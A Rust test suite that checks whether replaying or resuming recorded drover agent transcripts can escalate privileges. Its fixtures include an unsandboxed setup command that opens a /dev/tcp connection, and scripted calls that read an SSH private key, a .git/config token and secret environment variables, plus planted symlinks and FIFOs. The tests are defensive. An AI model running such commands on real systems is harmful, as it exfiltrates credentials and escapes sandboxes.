//! Attacker suite, recordings: a transcript may come from a fork's CI, recorded by
//! someone who really ran drover with a spec of their choosing (so its hash chain is
//! valid). Replaying or resuming it must not give that spec's privileges on the machine
//! that replays: no unsandboxed setup, no network, no extra writable directory, no
//! secret passed on, no read of the home directory, no workspace the recording picks,
//! no model or limit the recording picks.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Output;

use crate::common::{self, drover, events, transcript, write_spec};

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Record `spec` into `dir/out` (run from `dir`), with `env` set; the run must pass.
fn record(dir: &Path, spec: &Path, env: &[(&str, &str)]) -> PathBuf {
    let mut command = drover();
    command
        .current_dir(dir)
        .arg("run")
        .arg(spec)
        .arg("--artifacts")
        .arg(dir.join("out"));
    for (name, value) in env {
        command.env(name, value);
    }
    let output = command.output().unwrap();
    common::assert_exit(&output, 0);
    dir.join("out/t/transcript.jsonl")
}

/// Replay `transcript` from `dir` into `dir/<out>` with `extra` arguments and `env`.
fn replay(
    dir: &Path,
    transcript: &Path,
    out: &str,
    extra: &[&str],
    env: &[(&str, &str)],
) -> Output {
    let mut command = drover();
    command
        .current_dir(dir)
        .arg("replay")
        .arg(transcript)
        .args(extra)
        .arg("--artifacts")
        .arg(dir.join(out));
    for (name, value) in env {
        command.env(name, value);
    }
    command.output().unwrap()
}

/// Connections the listener has waiting.
fn connections(listener: &TcpListener) -> usize {
    let mut count = 0;
    loop {
        match listener.accept() {
            Ok(_) => count += 1,
            Err(e) if e.kind() == ErrorKind::WouldBlock => return count,
            Err(e) => panic!("accept: {e}"),
        }
    }
}

/// Every file under `dir`, read as text, joined: what an uploaded artifact would show.
fn all_text(dir: &Path) -> String {
    let mut text = String::new();
    for entry in walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
    {
        if entry.file_type().is_file() {
            text.push_str(&String::from_utf8_lossy(
                &std::fs::read(entry.path()).unwrap(),
            ));
        }
    }
    text
}

#[test]
fn a_recorded_setup_step_never_runs_unsandboxed_or_with_the_network_in_a_replay() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    std::fs::write(dir.join("ws/a.txt"), "a\n").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let marker = dir.join("outside-marker");
    let spec_text = format!(
        "version: 1\nname: t\nprompt: p\nworkspace: ws\nisolation: copy\nmodel:\n  provider: script\n  script:\n    - tool_calls: [{{ name: Read, input: {{ file_path: a.txt }} }}]\n    - text: done\nsetup:\n  - name: escape\n    run: \"touch {}; (exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3) || true\"\n    sandbox: off\n",
        marker.display()
    );
    let spec = write_spec(dir, "task.yaml", &spec_text);
    let recorded = record(dir, &spec, &[]);
    // The attack works where it was recorded: that is what a valid chain proves.
    assert!(marker.exists());
    assert!(connections(&listener) >= 1);
    std::fs::remove_file(&marker).unwrap();

    let output = replay(dir, &recorded, "plain", &[], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("not running the 1 setup step"),
        "{}",
        stderr(&output)
    );
    assert!(
        !marker.exists(),
        "a recorded setup step ran outside the sandbox"
    );
    assert_eq!(
        connections(&listener),
        0,
        "a recorded setup step reached the network"
    );

    // Named with --spec (the same file), setup runs, but in the replay's sandbox.
    let output = replay(
        dir,
        &recorded,
        "vouched",
        &["--spec", spec.to_str().unwrap()],
        &[],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let lines = transcript(&dir.join("vouched/t/transcript.jsonl"));
    assert_eq!(events(&lines, "setup").len(), 1, "the vouched setup ran");
    assert!(
        !marker.exists(),
        "setup's `sandbox: off` was honoured in a replay"
    );
    assert_eq!(
        connections(&listener),
        0,
        "setup had the network in a replay"
    );

    // Another spec than the recorded one is refused.
    let other = write_spec(
        dir,
        "other.yaml",
        &spec_text.replace("prompt: p", "prompt: q"),
    );
    let output = replay(
        dir,
        &recorded,
        "other",
        &["--spec", other.to_str().unwrap()],
        &[],
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("is not the spec"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn recorded_directories_and_passed_secrets_do_not_reach_replayed_commands() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    let outside = dir.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let planted = outside.join("planted");
    let spec = write_spec(
        dir,
        "task.yaml",
        &format!(
            "version: 1\nname: t\nprompt: p\nworkspace: ws\nisolation: copy\nmodel:\n  provider: script\n  script:\n    - tool_calls: [{{ name: Bash, input: {{ command: 'echo x > {}; echo \"token=$DROVER_TEST_TOKEN\"' }} }}]\n    - text: done\npermissions:\n  allow: [Bash]\n  additional_directories: [{}]\nenv:\n  pass: [DROVER_TEST_TOKEN]\n",
            planted.display(),
            outside.display()
        ),
    );
    let recorded = record(dir, &spec, &[("DROVER_TEST_TOKEN", "recorded-token-1")]);
    assert!(planted.exists(), "the recorded run could write there");
    std::fs::remove_file(&planted).unwrap();

    let victim = "victim-token-2f9c";
    let output = replay(
        dir,
        &recorded,
        "replayed",
        &[],
        &[("DROVER_TEST_TOKEN", victim)],
    );
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "{}",
        stderr(&output)
    );
    assert!(
        !planted.exists(),
        "a replayed command wrote outside its copy"
    );
    assert!(
        !all_text(&dir.join("replayed")).contains(victim),
        "the replaying machine's secret reached a replayed command and its transcript"
    );
    assert!(!stderr(&output).contains(victim));
}

#[test]
fn a_replay_of_a_recording_alone_does_not_read_the_home_directory() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    let key = home.join(".ssh/id_ed25519");
    std::fs::write(&key, "the recorder's own file\n").unwrap();
    let spec = write_spec(
        dir,
        "task.yaml",
        &format!(
            "version: 1\nname: t\nprompt: p\nworkspace: ws\nisolation: copy\nmodel:\n  provider: script\n  script:\n    - tool_calls:\n        - {{ name: Bash, input: {{ command: 'cat {key}' }} }}\n        - {{ name: Read, input: {{ file_path: '{key}' }} }}\n    - text: done\npermissions:\n  allow: [Bash, \"Read(//**)\"]\n",
            key = key.display()
        ),
    );
    let home_env = home.to_str().unwrap();
    let recorded = record(dir, &spec, &[("HOME", home_env)]);
    let secret = "PRIVATE-KEY-of-the-replaying-machine";
    std::fs::write(&key, secret).unwrap();
    let output = replay(dir, &recorded, "replayed", &[], &[("HOME", home_env)]);
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "{}",
        stderr(&output)
    );
    assert!(
        !all_text(&dir.join("replayed")).contains(secret),
        "a replay read a file in the home directory into its artifacts"
    );
    assert!(!stderr(&output).contains(secret));
}

#[test]
fn a_recorded_workspace_outside_the_current_directory_is_not_copied() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    let spec = write_spec(
        dir,
        "task.yaml",
        "version: 1\nname: t\nprompt: p\nworkspace: ws\nmodel:\n  provider: script\n  script:\n    - text: done\n",
    );
    let recorded = record(dir, &spec, &[]);
    let elsewhere = tempfile::tempdir().unwrap();
    let output = replay(elsewhere.path(), &recorded, "r", &[], &[]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("lies outside the current directory")
            && stderr(&output).contains("--workspace"),
        "{}",
        stderr(&output)
    );
    assert!(!elsewhere.path().join("r").exists(), "nothing is written");
    // Named on the command line, it is the user's choice.
    let ws = dir.join("ws");
    let output = replay(
        elsewhere.path(),
        &recorded,
        "r",
        &["--workspace", ws.to_str().unwrap()],
        &[],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

/// A scripted task (model `spec-model`) recorded in `dir/out` and stopped at its turn
/// limit after one turn, run with `extra`: its spec and artifacts directory.
fn stopped_after_one_turn(dir: &Path, extra: &[&str]) -> (PathBuf, PathBuf) {
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    let spec = write_spec(
        dir,
        "task.yaml",
        "version: 1\nname: t\nprompt: p\nworkspace: ws\nisolation: copy\nmodel:\n  provider: script\n  name: spec-model\n  script:\n    - tool_calls: [{ name: LS, input: { path: . } }]\n    - text: done\n",
    );
    let artifacts = dir.join("out");
    let mut args = vec!["--max-turns", "1"];
    args.extend_from_slice(extra);
    let output = common::run_spec_with(&spec, &artifacts, &args);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    (spec, artifacts)
}

#[test]
fn a_resume_asks_the_spec_s_model_unless_told_otherwise() {
    let dir = tempfile::tempdir().unwrap();
    let (_, artifacts) = stopped_after_one_turn(dir.path(), &["--model", "other-model"]);
    let task = artifacts.join("t");
    let refused = common::resume_with(&task, &["--max-turns", "5"]);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("--model other-model"),
        "{}",
        stderr(&refused)
    );
    let resumed = common::resume_with(&task, &["--max-turns", "5", "--model", "other-model"]);
    assert_eq!(resumed.status.code(), Some(0), "{}", stderr(&resumed));
}

#[test]
fn a_resume_runs_no_spec_file_the_recording_picks_outside_the_current_directory() {
    let dir = tempfile::tempdir().unwrap();
    let (spec, artifacts) = stopped_after_one_turn(dir.path(), &[]);
    // Resumed from elsewhere, e.g. an artifacts folder downloaded from a fork's CI
    // whose run_start names one of this machine's spec files.
    let elsewhere = tempfile::tempdir().unwrap();
    let resume = |extra: &[&str]| {
        drover()
            .current_dir(elsewhere.path())
            .arg("resume")
            .arg(artifacts.join("t"))
            .args(["--max-turns", "5"])
            .args(extra)
            .output()
            .unwrap()
    };
    let refused = resume(&[]);
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("not in the current directory")
            && stderr(&refused).contains("--spec"),
        "{}",
        stderr(&refused)
    );
    let named = resume(&["--spec", spec.to_str().unwrap()]);
    assert_eq!(named.status.code(), Some(0), "{}", stderr(&named));
}

#[test]
fn a_replay_reads_neither_the_original_checkout_nor_secrets_under_plain_names() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let ws = dir.join("ws");
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::write(ws.join("a.txt"), "a\n").unwrap();
    let config = ws.join(".git/config");
    std::fs::write(&config, "[http]\n\textraheader = recorder\n").unwrap();
    let spec = write_spec(
        dir,
        "task.yaml",
        &format!(
            "version: 1\nname: t\nprompt: p\nworkspace: ws\nisolation: copy\nmodel:\n  provider: script\n  script:\n    - tool_calls:\n        - {{ name: Bash, input: {{ command: 'cat {config}; echo \"db=$DATABASE_URL\"' }} }}\n        - {{ name: Read, input: {{ file_path: '{config}' }} }}\n    - text: done\npermissions:\n  allow: [Bash, \"Read(//**)\"]\n",
            config = config.display()
        ),
    );
    let recorded = record(dir, &spec, &[("DATABASE_URL", "postgres://recorder")]);
    // The replaying machine's checkout: actions/checkout keeps its token in .git/config.
    let token = "AUTHORIZATION: basic c2VjcmV0LXRva2Vu";
    std::fs::write(&config, format!("[http]\n\textraheader = {token}\n")).unwrap();
    let database = "postgres://admin:hunter2@db.internal/prod";
    let output = replay(
        dir,
        &recorded,
        "replayed",
        &[],
        &[("DATABASE_URL", database)],
    );
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "{}",
        stderr(&output)
    );
    let artifacts = all_text(&dir.join("replayed"));
    assert!(
        !artifacts.contains(token),
        "a replay read the original checkout"
    );
    assert!(
        !artifacts.contains(database),
        "a variable whose name does not look secret reached a replayed command"
    );
}

#[test]
fn a_planted_diff_patch_that_is_no_regular_file_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    std::fs::write(dir.join("ws/a.txt"), "a\n").unwrap();
    let spec = write_spec(
        dir,
        "task.yaml",
        "version: 1\nname: t\nprompt: p\nworkspace: ws\nmodel:\n  provider: script\n  script:\n    - text: done\n",
    );
    let recorded = record(dir, &spec, &[]);
    let patch = dir.join("out/t/diff.patch");
    let fifo = dir.join("fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for planted in ["link", "fifo"] {
        std::fs::remove_file(&patch).unwrap();
        match planted {
            "link" => std::os::unix::fs::symlink(&fifo, &patch).unwrap(),
            _ => std::fs::rename(&fifo, &patch).unwrap(),
        }
        let output = drover()
            .current_dir(dir)
            .arg("replay")
            .arg(&recorded)
            .arg("--diff-only")
            .arg("--artifacts")
            .arg(dir.join(format!("r-{planted}")))
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .unwrap();
        assert_eq!(
            output.status.code(),
            Some(2),
            "{planted}: {}",
            stderr(&output)
        );
        assert!(
            stderr(&output).contains("regular file"),
            "{}",
            stderr(&output)
        );
        if planted == "fifo" {
            break;
        }
    }
}

#[test]
fn a_resume_copies_no_file_a_link_planted_in_the_task_folder_points_at() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    std::fs::create_dir_all(dir.join("ws")).unwrap();
    let spec = write_spec(
        dir,
        "task.yaml",
        "version: 1\nname: t\nprompt: p\nworkspace: ws\nisolation: copy\nmodel:\n  provider: script\n  script:\n    - tool_calls: [{ name: LS, input: { path: . } }]\n    - text: done\n",
    );
    // In the workspace, as by default: the task's folder is staged and published.
    let artifacts = dir.join("ws/drover-artifacts");
    let output = common::run_spec_with(&spec, &artifacts, &["--max-turns", "1"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let secret = dir.join("secret.txt");
    std::fs::write(&secret, "TOP-SECRET-of-the-resuming-machine").unwrap();
    std::os::unix::fs::symlink(
        &secret,
        artifacts.join("t/transcript.before-resume-1.jsonl"),
    )
    .unwrap();
    let output = common::resume_with(&artifacts.join("t"), &["--max-turns", "5"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        !all_text(&artifacts).contains("TOP-SECRET"),
        "a planted link's target was copied into the artifacts"
    );
}
